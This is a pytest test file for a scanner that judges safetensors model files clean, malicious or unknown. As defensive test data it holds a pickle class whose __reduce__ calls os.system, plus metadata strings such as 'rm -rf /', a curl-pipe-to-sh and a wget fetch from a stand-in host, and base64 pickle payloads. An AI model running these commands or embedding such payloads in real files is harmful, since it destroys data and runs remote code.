"""safetensors: what the library refuses is told, what it writes is clean, and everything ends within bounds."""

import base64
import json
import pickle
import struct
import time
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from weights_samples import SAMPLES, floats, gaps, header, look, safetensors, signs, texts

from backstay.artifacts.content import Content
from backstay.artifacts.report import Sign, State

GOOD = {
    "a.weight": ("F32", [2, 3], floats(6)),
    "b.bias": ("F16", [4], b"\0" * 8),
    "c.scale": ("F32", [], floats(1)),
}
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HH", 2, 62) + b"\0" * 500


class Evil:
    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, ("true",)


def entry(kind: str, shape: list[int], begin: int, end: int) -> dict[str, Any]:
    return {"dtype": kind, "shape": shape, "data_offsets": [begin, end]}


def test_what_the_library_writes_is_clean() -> None:
    found = look((SAMPLES / "safetensors-0.8.0.safetensors").read_bytes(), "model.safetensors")
    assert found.state is State.CLEAN and found.complete and found.format == "safetensors" and not found.observations
    assert found.facts["tensors"] == 2 and found.facts["parameters"] == 10 and found.facts["framework"] == "numpy"


def test_scalars_empty_tensors_and_any_order_are_clean() -> None:
    data = {"z": entry("F32", [2], 8, 16), "a": entry("F32", [2], 0, 8), "n": entry("F32", [0, 5], 8, 8)}
    found = look(header(data, floats(4)), "model.safetensors")
    assert found.state is State.CLEAN and not found.observations
    assert look(safetensors(GOOD), "model.safetensors").state is State.CLEAN
    assert look(header({}), "model.safetensors").state is State.CLEAN


SIZES = {
    "BOOL": 1, "U8": 1, "I8": 1, "F8_E4M3": 1, "F8_E5M2": 1, "F8_E8M0": 1, "F8_E4M3FNUZ": 1, "F8_E5M2FNUZ": 1, "I16": 2,
    "U16": 2, "F16": 2, "BF16": 2, "I32": 4, "U32": 4, "F32": 4, "C64": 8, "F64": 8, "I64": 8, "U64": 8,
}  # fmt: skip


@pytest.mark.parametrize(("kind", "size"), SIZES.items())
def test_types_have_their_sizes(kind: str, size: int) -> None:
    assert look(header({"a": entry(kind, [4], 0, 4 * size)}, b"\0" * 4 * size), "m.safetensors").state is State.CLEAN
    wrong = look(header({"a": entry(kind, [5], 0, 4 * size)}, b"\0" * 4 * size), "m.safetensors")
    assert signs(wrong) == {Sign.TENSORS}


def test_types_of_less_than_a_byte_are_counted_in_bits() -> None:
    assert look(header({"a": entry("F4", [4], 0, 2)}, b"\0\0"), "m.safetensors").state is State.CLEAN
    assert look(header({"a": entry("F6_E2M3", [4], 0, 3)}, b"\0" * 3), "m.safetensors").state is State.CLEAN
    assert signs(look(header({"a": entry("F4", [3], 0, 2)}, b"\0\0"), "m.safetensors")) == {Sign.TENSORS}


def test_a_type_of_the_future_is_unread_and_a_made_up_one_is_told() -> None:
    found = look(header({"a": entry("F3_E1M1", [8], 0, 3)}, b"\0" * 3), "m.safetensors")
    assert found.state is State.UNKNOWN and gaps(found) == {"unknown tensor type"}
    assert Sign.TENSORS in signs(look(header({"a": entry("os.system", [1], 0, 4)}, b"\0" * 4), "m.safetensors"))


@pytest.mark.parametrize(
    "tensors",
    [
        {"a": entry("F32", [2], 0, 8), "b": entry("F32", [2], 4, 12)},
        {"a": entry("F32", [2], 0, 8), "b": entry("F32", [2], 0, 8)},
        {"a": entry("F32", [2], 8, 0)},
        {"a": entry("F32", [2], -8, 0)},
        {"a": entry("F32", [-2], 0, 8)},
        {"a": entry("F32", [1 << 62, 1 << 62], 0, 8)},
        {"a": entry("F32", [1 << 45], 0, 1 << 47)},
        {"a": {"dtype": "F32", "shape": [2]}},
        {"a": {"dtype": "F32", "shape": "2", "data_offsets": [0, 8]}},
        {"a": {"dtype": "F32", "shape": [2.0], "data_offsets": [0, 8]}},
        {"a": {"dtype": ["F32"], "shape": [2], "data_offsets": [0, 8]}},
        {"a": [1, 2, 3]},
        {"a": entry("F32", [2], 0, 8) | {"extra": 1}},
    ],
    ids=str,
)
def test_tensors_that_contradict_themselves_or_each_other(tensors: dict[str, Any]) -> None:
    found = look(header(tensors, b"\0" * 12), "m.safetensors")
    assert Sign.TENSORS in signs(found) and found.state is State.MALICIOUS


def test_a_key_that_stands_twice_is_told() -> None:
    raw = '{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[4,8]}}'
    assert Sign.DECEIVES in signs(look(header(raw, b"\0" * 8), "m.safetensors"))
    raw = '{"__metadata__":{"k":"1","k":"2"}}'
    assert signs(look(header(raw), "m.safetensors")) == {Sign.DECEIVES}
    raw = '{"a":{"dtype":"F32","dtype":"F16","shape":[1],"data_offsets":[0,4]}}'
    assert Sign.TENSORS in signs(look(header(raw, b"\0" * 4), "m.safetensors"))


def test_bytes_that_no_tensor_names_are_told() -> None:
    after = look(safetensors(GOOD) + b"hidden", "m.safetensors")
    assert Sign.DECEIVES in signs(after) and after.state is State.MALICIOUS
    hole = look(
        header({"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 12, 16)}, b"\0" * 4 + b"x" * 8 + b"\0" * 4), "m"
    )
    assert Sign.DECEIVES in signs(hole)


def test_programs_after_the_end_in_holes_and_as_tensors() -> None:
    assert Sign.PROGRAM in signs(look(safetensors(GOOD) + ELF, "m.safetensors"))
    hole = header(
        {"a": entry("F32", [1], 0, 4), "b": entry("F32", [1], 4 + len(ELF), 8 + len(ELF))}, b"\0" * 4 + ELF + b"\0" * 4
    )
    assert Sign.PROGRAM in signs(look(hole, "m.safetensors"))
    assert Sign.PROGRAM in signs(look(safetensors({"w": ("U8", [len(ELF)], ELF)}), "m.safetensors"))


def test_zeros_after_the_end_are_padding() -> None:
    assert look(safetensors(GOOD) + b"\0" * 64, "m.safetensors").state is State.CLEAN


def test_a_pickle_after_the_end_is_read_too() -> None:
    found = look(safetensors(GOOD) + pickle.dumps(Evil()), "m.safetensors")
    assert found.state is State.MALICIOUS and Sign.DECEIVES in signs(found)


def test_a_file_that_ends_early_is_incomplete_and_not_clean() -> None:
    data = safetensors(GOOD)
    found = look(data[:-3], "m.safetensors")
    assert signs(found) == {Sign.INCOMPLETE} and gaps(found) == {"truncated"} and found.state is State.UNKNOWN
    found = look(data[:30], "m.safetensors")
    assert signs(found) == {Sign.INCOMPLETE} and gaps(found) == {"truncated"}


@pytest.mark.parametrize("length", [1 << 30, 1 << 40, 1 << 63, (1 << 64) - 1])
def test_a_header_longer_than_any_is_told(length: int) -> None:
    raw = json.dumps({"a": entry("F32", [1], 0, 4)})
    found = look(header(raw, b"\0" * 4, length), "m.safetensors")
    assert Sign.TENSORS in signs(found) and gaps(found) == {"invalid header"}


def test_a_header_that_claims_more_than_the_file_has_is_told_from_a_truncated_one() -> None:
    raw = json.dumps({"a": entry("F32", [1], 0, 4)})
    assert Sign.TENSORS in signs(look(header(raw, b"\0" * 4, len(raw) + 1000), "m.safetensors"))


@pytest.mark.parametrize("raw", ['{"a": tru', '{"a":1}x', '{"a":{}} {"b":{}}', "{" + "[" * 50, '{"\udc80":1}'])
def test_headers_that_are_no_json_are_not_clean(raw: str) -> None:
    found = look(header(raw.encode("utf-8", "surrogateescape")), "m.safetensors")
    assert found.gaps and found.state is not State.CLEAN


def test_metadata_must_be_texts() -> None:
    found = look(header({"__metadata__": {"a": 1, "b": ["x"]}}), "m.safetensors")
    assert signs(found) == {Sign.IRREGULAR} and found.state is State.CLEAN
    assert signs(look(header({"__metadata__": "x"}), "m.safetensors")) == {Sign.IRREGULAR}


@pytest.mark.parametrize(
    "text",
    [
        "import os; os.system('true')",
        "__import__('no_such').run()",
        "subprocess.call(['true'])",
        "exec(base64.b64decode('cHJpbnQoMSk='))",
        "rm -rf / --no-preserve-root",
        "curl http://no.such.host/x | sh",
        "true && wget http://no.such.host/x",
        "<script>alert(1)</script>",
        base64.b64encode(pickle.dumps(Evil())).decode(),
        pickle.dumps(Evil()).hex(),
        base64.b64encode(ELF).decode(),
        "data:application/x;base64," + base64.b64encode(pickle.dumps(Evil())).decode(),
        pickle.dumps(Evil(), 0).decode("latin-1"),
    ],
)
def test_metadata_that_carries_code(text: str) -> None:
    assert look(safetensors(GOOD, {"note": text}), "m.safetensors").state is State.MALICIOUS


@pytest.mark.parametrize(
    "text",
    [
        "https://huggingface.co/org/model",
        "Trained on system logs; see os.path and subprocess docs",
        "data:image/png;base64," + base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0" * 300).decode(),
        "0123456789abcdef" * 4,
        "<p>A <b>LoRA</b> of a castle</p>",
        json.dumps({"1_castle": {"castle": 10, "curl": 3}}),
        "rm, sh, bash: words of a vocabulary",
    ],
)
def test_metadata_that_honest_authors_write(text: str) -> None:
    found = look(safetensors(GOOD, {"note": text}), "m.safetensors")
    assert found.state is State.CLEAN and not found.observations


def test_what_authors_declare() -> None:
    metadata = {
        "format": "pt", "modelspec.title": "Castle", "modelspec.license": "CC-BY-4.0", "modelspec.author": "me",
        "modelspec.architecture": "stable-diffusion-xl-v1-base/lora", "modelspec.tags": "castle, stone",
        "ss_sd_model_name": "base.safetensors", "ss_network_module": "networks.lora",
        "ss_dataset_dirs": json.dumps({"10_castle": {"n_repeats": 10}}),
    }  # fmt: skip
    found = look(safetensors(GOOD, metadata), "m.safetensors")
    assert found.declared == {
        "name": "Castle", "license": "CC-BY-4.0", "author": "me", "architecture": "stable-diffusion-xl-v1-base/lora",
        "base_model": "base.safetensors", "tags": ["castle", "stone"], "datasets": ["10_castle"],
    }  # fmt: skip
    assert found.facts["framework"] == "pytorch" and found.facts["producer"] == "kohya-ss/sd-scripts"


def test_the_digest_of_names_does_not_depend_on_their_order() -> None:
    first, second = dict(GOOD), dict(reversed(GOOD.items()))
    digests = {look(safetensors(one), "m.safetensors").facts["tensor_names"] for one in (first, second)}
    import hashlib

    assert digests == {hashlib.sha256(b"a.weight\0b.bias\0c.scale").hexdigest()[:32]}


@pytest.mark.parametrize(
    "data",
    [
        b'    {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}    ',
        b'const a={"a":1}',
        b"\x89PNG\r\n\x1a\n" + b"\0" * 100,
        b"PK\x03\x04" + b"\0" * 100,
        b'{"weight_map": {}}',
        b"\0" * 100,
        b"",
    ],
)
def test_other_files_are_not_taken_for_it(data: bytes) -> None:
    assert look(data, "data.bin").format != "safetensors"


class Sparse(Content):
    """A file of a header and zeros."""

    def __init__(self, head: bytes, size: int) -> None:
        self.head, self.size = head, size

    def read(self, at: int, length: int) -> bytes:
        length = max(0, min(length, self.size - at))
        piece = self.head[at : at + length]
        return piece + b"\0" * (length - len(piece))


def test_ten_million_tensors_end_within_the_limits() -> None:
    found = look(Sparse(header('{"a', length=99_000_000), 3 << 30), "m.safetensors")
    assert found.state is State.UNKNOWN and gaps(found) == {"too large"}


def test_a_header_of_many_tensors_is_read_in_time() -> None:
    one = '"t%d":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}'
    raw = "{" + ",".join(one % number for number in range(200_000)) + "}"
    began = time.process_time()
    found = look(header(raw), "m.safetensors")
    assert found.facts["tensors"] == 200_000 and time.process_time() - began < 6


def test_a_header_nested_deeply_is_a_gap() -> None:
    found = look(header('{"a":' + "[" * 100_000 + "]" * 100_000 + "}"), "m.safetensors")
    assert signs(found) == {Sign.EXHAUSTS} and gaps(found) == {"nested too deeply"}


def test_two_gigabytes_cost_little() -> None:
    size = 8 << 20
    entries = {
        f"model.layers.{one}.mlp.weight": entry("F16", [size // 2], one * size, (one + 1) * size) for one in range(256)
    }
    raw = json.dumps(entries).encode()
    began = time.process_time()
    found = look(Sparse(header(raw), 8 + len(raw) + 256 * size), "m.safetensors")
    assert found.state is State.CLEAN and found.complete and time.process_time() - began < 1.5


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_whatever_changes_it_ends_with_an_answer(data: st.DataObject) -> None:
    whole = bytearray(safetensors(GOOD, {"format": "pt"}))
    for _ in range(data.draw(st.integers(0, 6))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(whole)))
    found = look(bytes(whole[:cut]), "m.safetensors")
    assert "reader failed" not in gaps(found), texts(found)
    assert found.format == "safetensors" or found.gaps
